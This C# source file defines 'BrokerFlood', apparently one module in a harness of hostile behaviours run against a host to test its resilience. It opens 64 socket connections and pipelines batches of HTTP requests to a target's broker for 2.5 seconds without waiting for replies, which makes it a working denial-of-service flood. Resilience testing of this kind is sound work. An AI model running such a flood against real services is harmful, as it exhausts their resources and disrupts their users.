using System.Net.Sockets;
using System.Text;

namespace Hostile.Attacks.Protocol;

public sealed class BrokerFlood : Attack
{
    private const int Connections = 64;
    private const int AtOnce = 50;

    public override string Title => "asks the host's broker cheap questions without end, many at once on many connections";

    public override bool NeedsWorker => true;

    public override async Task<string?> RunAsync(HttpContext context, Target target)
    {
        var question = Encoding.ASCII.GetBytes(string.Concat(Enumerable.Repeat(Broker.Question(context.RequestServices, $"/calls/settings?call={Broker.CallOf(context)}"), AtOnce)));
        using var limit = new CancellationTokenSource(TimeSpan.FromSeconds(2.5));
        var answered = await Task.WhenAll(Enumerable.Range(0, Connections).Select(_ => FloodAsync(target, question, limit.Token)));
        return $"did: {answered.Sum()} questions were answered";
    }

    // Next questions are sent before the last are answered: as fast as a worker can.
    private static async Task<int> FloodAsync(Target target, byte[] question, CancellationToken cancellationToken)
    {
        var answered = 0;
        try
        {
            using var socket = await Broker.ConnectAsync(target);
            _ = ReadAsync(socket);
            while (true)
                await socket.SendAsync(question, cancellationToken);

            async Task ReadAsync(Socket from)
            {
                var buffer = new byte[16 * 1024];
                while (await from.ReceiveAsync(buffer, cancellationToken) is > 0 and var count)
                    answered += buffer.AsSpan(0, count).Count("HTTP/1.1"u8);
            }
        }
        catch (Exception exception) when (exception is OperationCanceledException or SocketException)
        {
            return answered;
        }
    }
}
